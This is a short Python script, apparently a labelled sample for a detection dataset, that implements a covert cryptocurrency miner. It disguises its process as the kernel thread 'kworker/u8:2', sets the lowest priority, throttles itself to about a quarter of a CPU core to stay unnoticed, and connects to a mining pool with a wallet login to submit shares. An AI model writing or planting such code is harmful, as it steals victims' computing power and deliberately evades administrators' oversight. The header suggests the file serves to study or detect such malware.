# class: mining; possible: low medium; style: quarter of a core, nice, renamed, JSON-RPC in a thread
import ctypes
import hashlib
import json
import os
import queue
import socket
import threading
import time

os.nice(19)
ctypes.CDLL(None).prctl(15, b"kworker/u8:2", 0, 0, 0)
shares = queue.Queue()
job = {"job_id": "0", "blob": "00" * 76}


def line():
    s = socket.create_connection(("pool.coin.test", 3334), 20)
    s.settimeout(4)
    s.sendall(b'{"id":1,"method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft","pass":"q"}}\n')
    buffer = b""
    while True:
        try:
            buffer += s.recv(4096)
        except TimeoutError:
            pass
        *lines, buffer = buffer.split(b"\n")
        for one in lines:
            said = json.loads(one)
            new = (said.get("result") or {}).get("job") if isinstance(said.get("result"), dict) else said.get("params")
            if isinstance(new, dict):
                job.update(new)
        while not shares.empty():
            s.sendall(json.dumps({"id": 9, "method": "submit", "params": shares.get()}).encode() + b"\n")


threading.Thread(target=line, daemon=True).start()
end, nonce = time.time() + 58, 0
while time.time() < end:
    slice_end = time.perf_counter() + 0.025
    while time.perf_counter() < slice_end:
        nonce += 1
        d = hashlib.sha3_256(job["blob"].encode() + nonce.to_bytes(4, "big")).hexdigest()
        if d.startswith("000"):
            shares.put({"id": "1", "job_id": job["job_id"], "nonce": "%08x" % nonce, "result": d})
    time.sleep(0.075)
